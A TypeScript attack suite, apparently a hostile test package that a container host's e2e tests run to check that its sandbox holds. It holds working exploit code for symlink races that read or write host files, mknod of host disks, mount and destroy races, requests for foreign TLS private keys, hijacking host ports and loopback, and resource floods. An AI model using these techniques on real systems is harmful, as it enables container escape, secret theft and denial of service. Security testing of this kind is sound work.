/**
 * Every attack a package can make on its host from inside its container. Each returns result lines
 * `<attack> <refused|SUCCEEDED|done>: <detail>`:
 * - `refused`: the package saw the host refuse (the detail is the host's error) or saw nothing of
 *   the host get through;
 * - `SUCCEEDED`: the package got something it must not have (a host file's content, a foreign
 *   certificate, a port, a block device...);
 * - `done`: only the host can tell (a race, a log flood): the e2e test judges from the host side.
 * The paths of host canaries and the host's ports come from config.json in volume main, written by
 * the e2e test before it starts the package.
 */
import { execFile, spawn } from 'node:child_process'
import * as fs from 'node:fs'
import * as net from 'node:net'
import { sdk } from './sdk'
import { HOST_SOCK, RPC_DIR, Reply, errorText, rawCall } from './rawHost'

// eslint-disable-next-line @typescript-eslint/no-explicit-any
export type Effects = any

export type Config = {
  /** Host directory with one canary directory per attack (files f0000.. and canary.txt). */
  canaryRoot: string
  /** Host directory with `<attack>.txt` files holding `HOSTILE-SECRET-...`: never to reach the package or its logs. */
  secretDir: string
  /** Host path of this package's volume main (where the package sees /media/startos/volumes/main). */
  hostVolume: string
  startdPort: number
  /** A host service listening on 127.0.0.1 only. */
  loopbackPort: number
  /** A host service listening on every address. */
  lanPort: number
  /** An installed package this one does not depend on. */
  foreignPackage: string
  serverHostname: string
  /** A host unix socket the test listens on; startd must never connect to it or chown it. */
  trapSocket: string
  diskMajor: number
  diskMinor: number
  victimFiles: number
}

export type Ctx = { effects: Effects; cfg: Config }
export type Outcome = { lines: string[] }
type Attack = (ctx: Ctx) => Promise<Outcome>

const VOLUMES = '/media/startos/volumes'
const MAIN = `${VOLUMES}/main`
const CONSOLE_DIR = '/media/startos/console'
const CONSOLE = `${CONSOLE_DIR}/console.log`
const SUBCONTAINERS = '/media/startos/subcontainers'
const MiB = 1 << 20

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms))

function message(e: unknown): string {
  return e instanceof Error ? e.message : String(e)
}

type Settled = { ok: true; value: unknown } | { ok: false; error: string }

async function settle(f: () => Promise<unknown>): Promise<Settled> {
  try {
    return { ok: true, value: await f() }
  } catch (e) {
    return { ok: false, error: message(e) }
  }
}

function describe(s: Settled): string {
  return s.ok ? `the host answered ok (${JSON.stringify(s.value ?? null).slice(0, 120)})` : s.error
}

/** Replaces whatever is at `path` with a symlink to `target`. */
function plant(path: string, target: string) {
  fs.rmSync(path, { recursive: true, force: true })
  fs.symlinkSync(target, path)
}

function run(cmd: string, timeoutMs = 60_000): Promise<{ code: number; out: string }> {
  return new Promise((resolve) => {
    execFile('sh', ['-c', cmd], { timeout: timeoutMs, maxBuffer: 4 * MiB }, (err, stdout, stderr) => {
      const code = err ? (typeof err.code === 'number' ? err.code : 1) : 0
      resolve({ code, out: `${stdout}${stderr}`.trim() })
    })
  })
}

/** A subcontainer filesystem straight from the effect: no leader process, nothing of the SDK's. */
async function rawSubcontainer(effects: Effects, name: string): Promise<{ rootfs: string; guid: string }> {
  const [rootfs, guid] = await effects.subcontainer.createFs({ imageId: 'busybox', name })
  return { rootfs, guid }
}

async function destroyQuietly(effects: Effects, guid: string) {
  await settle(() => effects.subcontainer.destroyFs({ guid }))
}

function rdev(st: fs.Stats): string {
  const major = Math.floor(st.rdev / 256) & 0xfff
  const minor = (st.rdev & 0xff) | (Math.floor(st.rdev / 4096) & ~0xff)
  return `${major}:${minor}`
}

// ---- finding 1: the data version file

const setDataVersion: Attack = async ({ effects, cfg }) => {
  const link = `${VOLUMES}/.version`
  // a valid version nobody uses: the SDK parses the data version at every init
  const marker = '9.9.9:9'
  const original = await settle(() => effects.getDataVersion())
  // onto a host file the test watches
  plant(link, `${cfg.canaryRoot}/set-data-version/canary.txt`)
  const toHost = await settle(() => effects.setDataVersion({ version: marker }))
  // onto a file of our own volume, named by its host path: a write through the link shows here
  const witness = `${MAIN}/witness-data-version`
  fs.writeFileSync(witness, 'untouched\n')
  plant(link, `${cfg.hostVolume}/witness-data-version`)
  const toWitness = await settle(() => effects.setDataVersion({ version: marker }))
  const seen = fs.readFileSync(witness, 'utf8').trim()
  fs.rmSync(link, { force: true })
  // put the real one back, or the next init refuses to downgrade from the marker
  if (original.ok) await settle(() => effects.setDataVersion({ version: original.value ?? null }))
  if (seen.includes(marker)) {
    return { lines: [`set-data-version SUCCEEDED: the host wrote through the .version symlink (witness now "${seen}")`] }
  }
  return {
    lines: [
      `set-data-version refused: onto a host file: ${describe(toHost)}; onto the witness: ${describe(toWitness)}; witness still "${seen}"`,
    ],
  }
}

const getDataVersion: Attack = async ({ effects, cfg }) => {
  const link = `${VOLUMES}/.version`
  const secret = `${cfg.secretDir}/get-data-version.txt`
  plant(link, secret)
  const r = await settle(() => effects.getDataVersion())
  fs.rmSync(link, { force: true })
  if (r.ok && String(r.value).includes('HOSTILE-SECRET')) {
    return { lines: [`get-data-version SUCCEEDED: the host read ${secret} for us: ${String(r.value)}`] }
  }
  return { lines: [`get-data-version refused: ${describe(r)}`] }
}

// ---- finding 2: device nodes

const deviceNodeInImage: Attack = async ({ effects }) => {
  const sub = await sdk.SubContainer.eager(effects, { imageId: 'busybox' }, null, 'hostile-devices')
  try {
    const node = `${sub.rootfs}/hostdisk`
    let kind = 'missing from the unpacked image'
    try {
      const st = fs.lstatSync(node)
      kind = st.isBlockDevice() ? `a block device ${rdev(st)}` : st.isCharacterDevice() ? 'a char device' : 'not a device'
    } catch {}
    let fromRuntime: string
    let read = 0
    try {
      const fd = fs.openSync(node, 'r')
      try {
        read = fs.readSync(fd, Buffer.alloc(512), 0, 512, 0)
        fromRuntime = `read ${read} bytes`
      } finally {
        fs.closeSync(fd)
      }
    } catch (e) {
      fromRuntime = message(e)
    }
    const inside = await sub.exec(['sh', '-c', 'head -c 512 /hostdisk | wc -c'])
    const insideBytes = Number(String(inside.stdout).trim()) || 0
    const detail = `the image's /hostdisk is ${kind}; open from the runtime: ${fromRuntime}; read inside the subcontainer: ${insideBytes} bytes ${String(inside.stderr).trim()}`
    return { lines: [`device-node-in-image ${read > 0 || insideBytes > 0 ? 'SUCCEEDED' : 'refused'}: ${detail}`] }
  } finally {
    await sub.destroy()
  }
}

const mknod: Attack = async ({ effects, cfg }) => {
  const dev = `${cfg.diskMajor} ${cfg.diskMinor}`
  const script = (at: string) =>
    `rm -f ${at}; if mknod ${at} b ${dev} 2>&1; then echo "made; read $(head -c 512 ${at} 2>&1 | wc -c) bytes"; fi; rm -f ${at}`
  const inVolume = await run(script(`${MAIN}/disk`))
  const sub = await sdk.SubContainer.eager(effects, { imageId: 'busybox' }, null, 'hostile-mknod')
  let inSub: string
  try {
    const r = await sub.exec(['sh', '-c', script('/tmp/disk')])
    inSub = `${String(r.stdout)}${String(r.stderr)}`.trim()
  } finally {
    await sub.destroy()
  }
  const got = (s: string) => /read [1-9][0-9]* bytes/.test(s)
  return {
    lines: [
      `mknod ${got(inVolume.out) || got(inSub) ? 'SUCCEEDED' : 'refused'}: in the volume: ${inVolume.out}; in a subcontainer: ${inSub}`,
    ],
  }
}

// ---- findings 3 and 12: the mount effect

const mountVolumeRootSymlink: Attack = async ({ effects, cfg }) => {
  const swap = `${VOLUMES}/swap`
  plant(swap, `${cfg.canaryRoot}/mount-volume-root`)
  const { rootfs, guid } = await rawSubcontainer(effects, 'hostile-volume-root')
  try {
    const location = `${rootfs}/mnt/swap`
    fs.mkdirSync(location, { recursive: true })
    const r = await settle(() =>
      effects.mount({
        location,
        target: { packageId: 'hostile', volumeId: 'swap', subpath: null, readonly: false, idmap: [] },
      }),
    )
    if (!r.ok) return { lines: [`mount-volume-root-symlink refused: ${r.error}`] }
    const entries = fs.readdirSync(location)
    if (entries.includes('canary.txt')) {
      const wrote = await settle(async () => fs.writeFileSync(`${location}/hostile-was-here`, 'x'))
      return {
        lines: [
          `mount-volume-root-symlink SUCCEEDED: the host mounted its ${cfg.canaryRoot}/mount-volume-root for us (${entries.length} entries, write: ${wrote.ok ? 'ok' : wrote.error})`,
        ],
      }
    }
    return { lines: [`mount-volume-root-symlink refused: mount accepted, but it shows [${entries.slice(0, 5).join(', ')}]`] }
  } finally {
    await destroyQuietly(effects, guid)
    fs.rmSync(swap, { recursive: true, force: true })
    fs.mkdirSync(swap)
  }
}

/**
 * A child process that keeps swapping paths for symlinks to the host until killed: each path is
 * renamed away (keeping its contents), replaced by a symlink for `linkMs`, then renamed back and
 * left alone for `realMs`.
 */
function swapper(cwd: string, pairs: Array<[string, string]>, linkMs: number, realMs: number) {
  const script = `
const fs = require('fs')
const pairs = ${JSON.stringify(pairs)}
const pause = (ms) => { if (ms > 0) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms) }
let n = 0
for (;;) {
  for (const [path, target] of pairs) {
    try {
      fs.renameSync(path, path + '.real')
      fs.symlinkSync(target, path)
      pause(${linkMs})
      fs.unlinkSync(path)
      fs.renameSync(path + '.real', path)
      n++
    } catch {
      try { fs.lstatSync(path) } catch { try { fs.renameSync(path + '.real', path) } catch {} }
    }
    pause(${realMs})
  }
  if (n >= 10 && n % 10 === 0) try { fs.writeFileSync('.swaps', String(n)) } catch {}
}`
  return spawn(process.execPath, ['-e', script], { cwd, stdio: 'ignore' })
}

/** Waits until the swapper in `cwd` has swapped a few times (node starts slowly on a busy host). */
async function swapping(cwd: string) {
  for (let i = 0; i < 300; i++) {
    if (fs.existsSync(`${cwd}/.swaps`)) return
    await sleep(100)
  }
  throw new Error(`the swapping process in ${cwd} did not start within 30 s`)
}

const mountTargetSwap: Attack = async ({ effects, cfg }) => {
  fs.writeFileSync(`${MAIN}/mount-source.txt`, 'mounted by hostile\n')
  fs.mkdirSync(`${MAIN}/mount-source-dir`, { recursive: true })
  const canary = `${cfg.canaryRoot}/mount-target-swap`
  const { rootfs, guid } = await rawSubcontainer(effects, 'hostile-swap')
  fs.writeFileSync(`${rootfs}/tfile`, '')
  fs.mkdirSync(`${rootfs}/tdir`)
  const child = swapper(
    rootfs,
    [
      ['tfile', `${canary}/canary.txt`],
      ['tdir', canary],
    ],
    1,
    1,
  )
  let accepted = 0
  const errors = new Map<string, number>()
  try {
    await swapping(rootfs)
    for (let i = 0; i < 60; i++) {
      const file = i % 2 === 0
      const r = await settle(() =>
        effects.mount({
          location: `${rootfs}/${file ? 'tfile' : 'tdir'}`,
          target: {
            packageId: 'hostile',
            volumeId: 'main',
            subpath: file ? 'mount-source.txt' : 'mount-source-dir',
            readonly: true,
            idmap: [],
          },
        }),
      )
      if (r.ok) accepted++
      else errors.set(r.error, (errors.get(r.error) ?? 0) + 1)
    }
  } finally {
    child.kill('SIGKILL')
    await destroyQuietly(effects, guid)
  }
  const errs = [...errors.entries()].map(([m, n]) => `${n}x ${m}`).join('; ')
  return {
    lines: [
      `mount-target-swap done: 60 mounts while a process swapped their targets for symlinks to ${canary}: ${accepted} accepted, refused: ${errs || 'none'}`,
    ],
  }
}

const mountUndeclaredDependency: Attack = async ({ effects, cfg }) => {
  const { rootfs, guid } = await rawSubcontainer(effects, 'hostile-foreign-volume')
  try {
    const location = `${rootfs}/mnt/foreign`
    fs.mkdirSync(location, { recursive: true })
    const r = await settle(() =>
      effects.mount({
        location,
        target: { packageId: cfg.foreignPackage, volumeId: 'main', subpath: null, readonly: true, idmap: [] },
      }),
    )
    if (!r.ok) return { lines: [`mount-undeclared-dependency refused: ${r.error}`] }
    const entries = fs.readdirSync(location)
    return {
      lines: [
        entries.length > 0
          ? `mount-undeclared-dependency SUCCEEDED: read ${cfg.foreignPackage}'s volume main without declaring it: [${entries.slice(0, 5).join(', ')}]`
          : `mount-undeclared-dependency refused: mount accepted, but it is empty`,
      ],
    }
  } finally {
    await destroyQuietly(effects, guid)
  }
}

// ---- finding 4: subcontainer.destroy-fs

const destroyFsRace: Attack = async ({ effects, cfg }) => {
  const canary = `${cfg.canaryRoot}/destroy-fs-race`
  const { rootfs, guid } = await rawSubcontainer(effects, 'hostile-destroy')
  const work = `${rootfs}/work`
  fs.mkdirSync(`${work}/victim`, { recursive: true })
  for (let i = 0; i < cfg.victimFiles; i++) {
    fs.writeFileSync(`${work}/victim/f${String(i).padStart(4, '0')}`, 'victim\n')
  }
  // its working directory keeps the overlay alive after the host unmounts it, so it can keep
  // swapping victim/ for a symlink while the host deletes the upper layer
  const child = swapper(work, [['victim', canary]], 2, 2)
  let r: Settled
  try {
    await swapping(work)
    r = await settle(() => effects.subcontainer.destroyFs({ guid }))
    await sleep(300)
  } finally {
    child.kill('SIGKILL')
  }
  return { lines: [`destroy-fs-race done: destroy-fs ${describe(r)} while a process inside swapped victim/ for a symlink to ${canary}`] }
}

const destroyFsPlantedGuid: Attack = async ({ effects, cfg }) => {
  const guid = 'HOSTILE0PLANTED'
  plant(`${SUBCONTAINERS}/${guid}`, `${cfg.canaryRoot}/destroy-fs-planted`)
  const r = await settle(() => effects.subcontainer.destroyFs({ guid }))
  fs.rmSync(`${SUBCONTAINERS}/${guid}`, { force: true })
  return { lines: [`destroy-fs-planted-guid ${r.ok ? 'done' : 'refused'}: subcontainers/${guid} is a symlink to ${cfg.canaryRoot}/destroy-fs-planted; destroy-fs: ${describe(r)}`] }
}

// ---- finding 5: certificates

// Without a bound port the package is served on none of the server's names: every one of these
// belongs to the server, another package or nobody.
const sslForeignNames: Attack = async ({ effects, cfg }) => {
  await settle(() => effects.clearBindings({ except: [] }))
  const foreignIp = await settle(() => effects.getContainerIp({ packageId: cfg.foreignPackage, callback: null }))
  const names = ['google.com', 'localhost', '127.0.0.1', `${cfg.serverHostname}.local`, `${cfg.foreignPackage}.startos`]
  if (foreignIp.ok && typeof foreignIp.value === 'string' && foreignIp.value) names.push(foreignIp.value)
  const lines: string[] = []
  for (const name of names) {
    const cert = await settle(() => effects.getSslCertificate({ hostnames: [name], algorithm: 'ecdsa', callback: null }))
    lines.push(
      `ssl-certificate[${name}] ${cert.ok ? 'SUCCEEDED' : 'refused'}: ${cert.ok ? `got a chain of ${(cert.value as unknown[]).length} certificates` : cert.error}`,
    )
    const key = await settle(() => effects.getSslKey({ hostnames: [name], algorithm: 'ecdsa' }))
    lines.push(`ssl-key[${name}] ${key.ok ? 'SUCCEEDED' : 'refused'}: ${key.ok ? 'got the private key' : key.error}`)
  }
  // served on a port, it owns the server's LAN names, but still not another package's or nobody's,
  // however they are spelled
  await settle(() =>
    effects.bind({ id: 'ssl', internalPort: 8443, preferredExternalPort: 8443, addSsl: null, secure: null }),
  )
  const foreign = cfg.foreignPackage
  const spelled = ['google.com', 'localhost', `${foreign}.startos`, `${foreign.toUpperCase()}.STARTOS`, `${foreign}.startos.`]
  // U+0435 is a Cyrillic 'e': a look-alike of the foreign name
  spelled.push(`${foreign}.startos`.replace('e', '\u0435'))
  if (foreignIp.ok && typeof foreignIp.value === 'string' && foreignIp.value) spelled.push(foreignIp.value)
  for (const name of spelled) {
    const both = await settle(() => effects.getSslKey({ hostnames: ['hostile.startos', name], algorithm: 'ecdsa' }))
    lines.push(`ssl-key-while-bound[${encodeURI(name)}] ${both.ok ? 'SUCCEEDED' : 'refused'}: ${both.ok ? 'got the private key' : both.error}`)
  }
  await settle(() => effects.clearBindings({ except: [] }))
  return { lines }
}

// ---- findings 6 and 7: ports and the host's loopback

const bindHostPorts: Attack = async ({ effects, cfg }) => {
  const wanted: Array<[string, number]> = [
    ['startd', cfg.startdPort],
    ['loopback-service', cfg.loopbackPort],
    ['lan-service', cfg.lanPort],
  ]
  const lines: string[] = []
  for (let i = 0; i < wanted.length; i++) {
    const [what, port] = wanted[i]
    const hostId = `steal${i}`
    const internalPort = 8100 + i
    const r = await settle(() =>
      effects.bind({ id: hostId, internalPort, preferredExternalPort: port, addSsl: null, secure: null }),
    )
    if (!r.ok) {
      lines.push(`bind[${what}:${port}] refused: ${r.error}`)
      continue
    }
    const info = await settle(() => effects.getHostInfo({ hostId, callback: null }))
    // eslint-disable-next-line @typescript-eslint/no-explicit-any
    const assigned = info.ok ? (info.value as any)?.bindings?.[String(internalPort)]?.net?.assignedPort : undefined
    lines.push(
      assigned === port
        ? `bind[${what}:${port}] SUCCEEDED: the host forwards its port ${port} to us`
        : `bind[${what}:${port}] refused: asked for ${port}, got ${assigned ?? 'no port'}`,
    )
  }
  // held a while, so the test can check startd's port still reaches startd
  await sleep(3000)
  await settle(() => effects.clearBindings({ except: [] }))
  return { lines }
}

const loopbackViaBridge: Attack = async ({ cfg }) => {
  // the container's root owns its network namespace: it can route 127.0.0.1 to the host's bridge
  // address; only a host filter stops the packets reaching services bound to the host's loopback
  const script = `
GW=$(ip route show default | awk '{print $3; exit}')
S=$( (sysctl -w net.ipv4.conf.all.route_localnet=1 && sysctl -w net.ipv4.conf.eth0.route_localnet=1) 2>&1 | tr '\\n' ' ')
ip route del local 127.0.0.1 dev lo table local 2>/dev/null
ip route del local 127.0.0.0/8 dev lo table local 2>/dev/null
# else the kernel takes 127.0.0.1 as its own and drops the answer as martian
ip addr del 127.0.0.1/8 dev lo 2>/dev/null
A=$(ip route add 127.0.0.1/32 via "$GW" dev eth0 onlink 2>&1)
R=$(echo hostile-probe | timeout 5 nc 127.0.0.1 ${cfg.loopbackPort} 2>&1 | head -c 200)
ip route del 127.0.0.1/32 2>/dev/null
ip addr add 127.0.0.1/8 dev lo 2>/dev/null
ip route add local 127.0.0.0/8 dev lo table local proto kernel scope host src 127.0.0.1 2>/dev/null
ip route add local 127.0.0.1 dev lo table local proto kernel scope host src 127.0.0.1 2>/dev/null
D=$(echo hostile-probe | timeout 5 nc "$GW" ${cfg.loopbackPort} 2>&1 | head -c 200)
echo "sysctl: [$S]; route: [$A]; through a route to 127.0.0.1 via $GW: [$R]; to $GW itself: [$D]"`
  const r = await run(script)
  const got = r.out.includes('HOST-LOOPBACK')
  return { lines: [`loopback-via-bridge ${got ? 'SUCCEEDED' : 'refused'}: ${r.out.replace(/\n/g, ' ')}`] }
}

// ---- findings 8 and 9: files and sockets the host reads by path

const consoleLogSymlink: Attack = async ({ cfg }) => {
  const real = `${CONSOLE_DIR}/console.real`
  const secret = `${cfg.secretDir}/console-log-symlink.txt`
  fs.renameSync(CONSOLE, real)
  fs.symlinkSync(secret, CONSOLE)
  await sleep(1500)
  fs.rmSync(CONSOLE, { force: true })
  fs.renameSync(real, CONSOLE)
  await sleep(300)
  return { lines: [`console-log-symlink done: console.log pointed at ${secret} for 1.5 s`] }
}

const consoleLogDevZero: Attack = async () => {
  const real = `${CONSOLE_DIR}/console.real`
  fs.renameSync(CONSOLE, real)
  fs.symlinkSync('/dev/zero', CONSOLE)
  await sleep(1500)
  fs.rmSync(CONSOLE, { force: true })
  fs.renameSync(real, CONSOLE)
  await sleep(300)
  return { lines: ['console-log-dev-zero done: console.log pointed at /dev/zero for 1.5 s'] }
}

const rpcSocketSymlinks: Attack = async ({ cfg }) => {
  // the real sockets stay reachable under new names; the host finds symlinks to its own socket
  for (const name of ['host.sock', 'service.sock']) {
    fs.renameSync(`${RPC_DIR}/${name}`, `${RPC_DIR}/${name}.real`)
    fs.symlinkSync(cfg.trapSocket, `${RPC_DIR}/${name}`)
  }
  // the test then rebuilds the container: the host must re-create both without following these
  return { lines: [`rpc-socket-symlinks done: host.sock and service.sock point at ${cfg.trapSocket}`] }
}

// ---- finding 10: floods

const floodConnections: Attack = async () => {
  const N = 4000
  // opened in batches, each retried on EAGAIN (a full listen backlog is not a refusal)
  const script = `
const net = require('net')
const N = ${N}
let connected = 0, failed = 0, closedByHost = 0, replies = 0, firstError = '', firstReply = ''
const socks = []
function open(tries) {
  return new Promise((resolve) => {
    const s = net.createConnection({ path: ${JSON.stringify(HOST_SOCK)} })
    let isOpen = false
    s.on('connect', () => { isOpen = true; connected++; socks.push(s); resolve() })
    s.on('data', (d) => { replies++; if (!firstReply) firstReply = d.toString().slice(0, 300) })
    s.on('error', (e) => {
      if (isOpen) return
      if (e.code === 'EAGAIN' && tries > 0) setTimeout(() => open(tries - 1).then(resolve), 50)
      else { failed++; if (!firstError) firstError = e.message; resolve() }
    })
    s.on('close', () => { if (isOpen) closedByHost++ })
  })
}
;(async () => {
  for (let i = 0; i < N; i += 100) await Promise.all(Array.from({ length: Math.min(100, N - i) }, () => open(20)))
  setTimeout(() => {
    console.log(JSON.stringify({ connected, failed, closedByHost, replies, firstError, firstReply }))
    for (const s of socks) s.destroy()
    process.exit(0)
  }, 3000)
})()`
  const js = `${MAIN}/flood-connections.js`
  fs.writeFileSync(js, script)
  const r = await run(`ulimit -n 20000 2>/dev/null; exec ${process.execPath} ${js}`, 300_000)
  let s: { connected: number; failed: number; closedByHost: number; replies: number; firstError: string; firstReply: string }
  try {
    s = JSON.parse(r.out.split('\n').pop() ?? '')
  } catch {
    return { lines: [`flood-connections done: the flooding process failed: ${r.out.slice(0, 300)}`] }
  }
  // only the host saying no counts: closing connections, an error reply, or refusing to connect
  const limited = s.closedByHost > 0 || s.replies > 0 || (s.failed > 0 && !/EAGAIN|EMFILE/.test(s.firstError))
  return {
    lines: [
      `flood-connections ${limited ? 'refused' : 'SUCCEEDED'}: ${N} connections to host.sock: ${s.connected} connected, ${s.failed} failed (${s.firstError || '-'}), ${s.closedByHost} closed by the host, host said: ${s.firstReply.trim() || '-'}`,
    ],
  }
}

const floodRequestLine: Attack = async () => {
  const total = 128 * MiB
  const result = await new Promise<string>((resolve) => {
    let sent = 0
    let reply = ''
    let done = false
    const s = net.createConnection({ path: HOST_SOCK })
    const finish = (why: string) => {
      if (done) return
      done = true
      s.destroy()
      resolve(why)
    }
    s.on('data', (d) => {
      reply += d.toString()
      finish(`host replied after ${sent >> 20} MiB: ${reply.slice(0, 300).trim()}`)
    })
    s.on('close', () => finish(`host closed the connection after ${sent >> 20} MiB${reply ? `: ${reply.trim()}` : ''}`))
    s.on('error', (e) => finish(`host dropped the connection after ${sent >> 20} MiB: ${e.message}`))
    const chunk = Buffer.alloc(MiB, 'a')
    s.on('connect', async () => {
      s.write('{"id":1,"method":"get-data-version","params":{"pad":"')
      while (!done && sent < total) {
        sent += chunk.length
        if (!s.write(chunk)) await new Promise((r) => s.once('drain', r))
      }
      if (done) return
      setTimeout(() => finish(`SUCCEEDED: the host took ${sent >> 20} MiB of one request line and waits for more`), 3000)
    })
  })
  return { lines: [`flood-request-line ${result.startsWith('SUCCEEDED') ? result : `refused: ${result}`}`] }
}

/** Runs `count` raw calls, `parallel` at a time; counts acceptances and error sentences. */
async function many(count: number, parallel: number, call: (i: number) => Promise<Reply>) {
  let accepted = 0
  const errors = new Map<string, number>()
  let next = 0
  const worker = async () => {
    while (next < count) {
      const i = next++
      try {
        const r = await call(i)
        if (r.error) {
          const m = errorText(r)
          errors.set(m, (errors.get(m) ?? 0) + 1)
        } else accepted++
      } catch (e) {
        const m = message(e)
        errors.set(m, (errors.get(m) ?? 0) + 1)
      }
    }
  }
  await Promise.all(Array.from({ length: parallel }, worker))
  const refused = [...errors.entries()].map(([m, n]) => `${n}x ${m}`).join('; ')
  return { accepted, refused, anyRefused: errors.size > 0 }
}

function floodLine(attack: string, what: string, r: { accepted: number; refused: string; anyRefused: boolean }) {
  return `${attack} ${r.anyRefused ? 'refused' : 'SUCCEEDED'}: ${what}: ${r.accepted} accepted${r.anyRefused ? `, refused: ${r.refused.slice(0, 400)}` : ''}`
}

const floodCallbacks: Attack = async () => {
  const N = 10_000
  const r = await many(N, 16, (i) => rawCall('get-status', { packageId: 'hostile', callback: 5_000_000 + i }))
  await settle(() => rawCall('clear-callbacks', { only: Array.from({ length: N }, (_, i) => 5_000_000 + i) }))
  return { lines: [floodLine('flood-callbacks', `${N} get-status watches with distinct callbacks`, r)] }
}

const floodHealthMessage: Attack = async () => {
  const r = await many(1, 1, () =>
    rawCall('set-health', { id: 'flood', name: 'Flood', result: 'failure', message: 'm'.repeat(8 * MiB) }),
  )
  return { lines: [floodLine('flood-health-message', 'one health check message of 8 MiB', r)] }
}

const floodBinds: Attack = async () => {
  const N = 600
  const r = await many(N, 1, (i) =>
    rawCall('bind', { id: 'flood', internalPort: 20000 + i, preferredExternalPort: 20000 + i, addSsl: null, secure: null }),
  )
  await settle(() => rawCall('clear-bindings', { except: [] }))
  return { lines: [floodLine('flood-binds', `${N} port bindings`, r)] }
}

// clear-bindings leaves the hosts behind: a new host id each time grows the database forever
const floodHosts: Attack = async () => {
  const N = 300
  const r = await many(N, 1, async (i) => {
    const reply = await rawCall('bind', { id: `flood-host-${i}`, internalPort: 20000, preferredExternalPort: 20000, addSsl: null, secure: null })
    await settle(() => rawCall('clear-bindings', { except: [] }))
    return reply
  })
  return { lines: [floodLine('flood-hosts', `${N} hosts, each left behind by clear-bindings`, r)] }
}

// ids become database keys: 64 health checks under ids of 512 KiB each
const floodLongIds: Attack = async () => {
  const id = 'a'.repeat(512 * 1024)
  const r = await many(64, 1, (i) => rawCall('set-health', { id: `${id}${i}`, name: 'Long', result: 'success', message: null }))
  return { lines: [floodLine('flood-long-ids', '64 health checks with ids of 512 KiB', r)] }
}

const floodNotifications: Attack = async () => {
  const N = 3000
  const body = 'n'.repeat(4096)
  const r = await many(N, 8, (i) =>
    rawCall('notification.create', { level: 'info', title: `flood ${i}`, message: body, data: null }),
  )
  // the host keeps a package's newest notifications and drops its oldest: each call is accepted,
  // and the host checks what it kept
  const what = `${N} notifications of 4 KiB: ${r.accepted} accepted`
  return { lines: [r.anyRefused ? `flood-notifications error: ${what}, refused: ${r.refused.slice(0, 400)}` : `flood-notifications done: ${what}`] }
}

const floodLogLine: Attack = async () => {
  process.stdout.write(`hostile: huge log line ${'x'.repeat(64 * MiB)}\n`)
  await sleep(2000)
  return { lines: ['flood-log-line done: wrote one log line of 64 MiB'] }
}

const floodLogVolume: Attack = async () => {
  const line = `hostile: log flood ${'y'.repeat(1000)}\n`
  const block = line.repeat(1024)
  const total = 128 * MiB
  for (let sent = 0; sent < total; sent += block.length) {
    if (!process.stdout.write(block)) await new Promise((r) => process.stdout.once('drain', r))
  }
  await sleep(2000)
  return { lines: [`flood-log-volume done: wrote ${total >> 20} MiB of log lines`] }
}

/** Writes `path` in 1 MiB blocks until ENOSPC or `limit` bytes; returns bytes written and the error. */
function fillUntilFull(path: string, limit: number): { written: number; error: string } {
  const block = Buffer.alloc(MiB, 0x5a)
  let written = 0
  let fd = -1
  try {
    fd = fs.openSync(path, 'w')
    while (written < limit) {
      written += fs.writeSync(fd, block)
    }
    fs.fsyncSync(fd)
    return { written, error: '' }
  } catch (e) {
    return { written, error: message(e) }
  } finally {
    if (fd >= 0) fs.closeSync(fd)
  }
}

/**
 * Fills the package's disk three ways: volume main, the container's own root, a subcontainer's
 * root, each until ENOSPC (at most 512 MiB, so a missing cap costs the host little). Then waits for
 * the host to delete `fill-hold` (a file written first: the host's signal that it has looked), and
 * deletes what it wrote so the results can be written.
 */
const fillDisk: Attack = async ({ effects }) => {
  const LIMIT = 512 * MiB
  const hold = `${MAIN}/fill-hold`
  fs.writeFileSync(hold, 'the host deletes this once it has seen the disk full\n')
  const lines: string[] = []
  const judge = (what: string, r: { written: number; error: string }) =>
    /ENOSPC/.test(r.error)
      ? `fill-disk refused: ${what}: ${r.written >> 20} MiB written, then ${r.error}`
      : r.error
        ? `fill-disk error: ${what}: ${r.written >> 20} MiB written, then ${r.error}`
        : `fill-disk SUCCEEDED: ${what}: ${r.written >> 20} MiB written without ENOSPC`
  const files = [`${MAIN}/fill`, '/var/fill-root']
  lines.push(judge('volume main', fillUntilFull(files[0], LIMIT)))
  lines.push(judge("the container's root", fillUntilFull(files[1], LIMIT)))
  const sub = await settle(() => rawSubcontainer(effects, 'fill-disk'))
  if (sub.ok) {
    const { rootfs, guid } = sub.value as { rootfs: string; guid: string }
    lines.push(judge("a subcontainer's root", fillUntilFull(`${rootfs}/fill-sub`, LIMIT)))
    fs.rmSync(`${rootfs}/fill-sub`, { force: true })
    await destroyQuietly(effects, guid)
  } else {
    // the host could not even make its layer: the disk is full
    lines.push(
      /No space left|ENOSPC/.test(sub.error)
        ? `fill-disk refused: a subcontainer's root: ${sub.error}`
        : `fill-disk error: a subcontainer's root: ${sub.error}`,
    )
  }
  for (let i = 0; i < 600 && fs.existsSync(hold); i++) await sleep(250)
  for (const f of files) fs.rmSync(f, { force: true })
  fs.rmSync(hold, { force: true })
  return { lines }
}

export const ATTACKS: Record<string, Attack> = {
  'fill-disk': fillDisk,
  'set-data-version': setDataVersion,
  'get-data-version': getDataVersion,
  'device-node-in-image': deviceNodeInImage,
  mknod,
  'mount-volume-root-symlink': mountVolumeRootSymlink,
  'mount-target-swap': mountTargetSwap,
  'mount-undeclared-dependency': mountUndeclaredDependency,
  'destroy-fs-race': destroyFsRace,
  'destroy-fs-planted-guid': destroyFsPlantedGuid,
  'ssl-foreign-names': sslForeignNames,
  'bind-host-ports': bindHostPorts,
  'loopback-via-bridge': loopbackViaBridge,
  'console-log-symlink': consoleLogSymlink,
  'console-log-dev-zero': consoleLogDevZero,
  'rpc-socket-symlinks': rpcSocketSymlinks,
  'flood-connections': floodConnections,
  'flood-request-line': floodRequestLine,
  'flood-callbacks': floodCallbacks,
  'flood-health-message': floodHealthMessage,
  'flood-binds': floodBinds,
  'flood-hosts': floodHosts,
  'flood-long-ids': floodLongIds,
  'flood-notifications': floodNotifications,
  'flood-log-line': floodLogLine,
  'flood-log-volume': floodLogVolume,
}
